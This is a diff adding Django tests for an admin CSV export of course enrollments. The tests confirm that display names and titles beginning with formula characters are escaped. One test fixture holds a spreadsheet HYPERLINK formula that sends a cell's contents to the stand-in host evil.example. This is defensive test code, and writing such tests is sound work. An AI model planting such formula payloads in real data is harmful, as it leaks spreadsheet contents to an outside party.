@@ -3,6 +3,7 @@ import io
 
 from django.urls import reverse
 
+from courses.admin import csv_safe
 from courses.models import Enrollment
 
 
@@ -30,3 +31,30 @@ def test_the_csv_export_lists_the_selected_enrollments(client, admin_user, enrol
     assert rows[0]["status"] == "Active"
     assert rows[0]["total_lessons"] == "12"
     assert rows[0]["offering"] == enrollment.offering.title
+
+
+def _export(client, admin_user, enrollment) -> dict:
+    client.force_login(admin_user)
+    response = client.post(
+        reverse("admin:courses_enrollment_changelist"),
+        {"action": "export_csv", "_selected_action": [enrollment.pk]},
+    )
+    return next(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+def test_the_csv_export_writes_a_formula_display_name_as_text(client, admin_user, enrollment, learner):
+    learner.display_name = '=HYPERLINK("https://evil.example/?x="&A2,"Click me")'
+    learner.save(update_fields=["display_name"])
+    enrollment.offering.title = "@SUM(1+1)"
+    enrollment.offering.save(update_fields=["title"])
+    row = _export(client, admin_user, enrollment)
+    assert row["name"] == "'" + learner.display_name
+    assert row["offering"] == "'@SUM(1+1)"
+
+
+def test_the_csv_export_neutralises_every_formula_lead_and_leaves_plain_text_alone(db):
+    for lead in ["=", "+", "-", "@", "\t", "\r"]:
+        assert csv_safe(f"{lead}1+1") == f"'{lead}1+1"
+    assert csv_safe("Lee Learner") == "Lee Learner"
+    assert csv_safe("") == ""
+    assert csv_safe(42) == 42
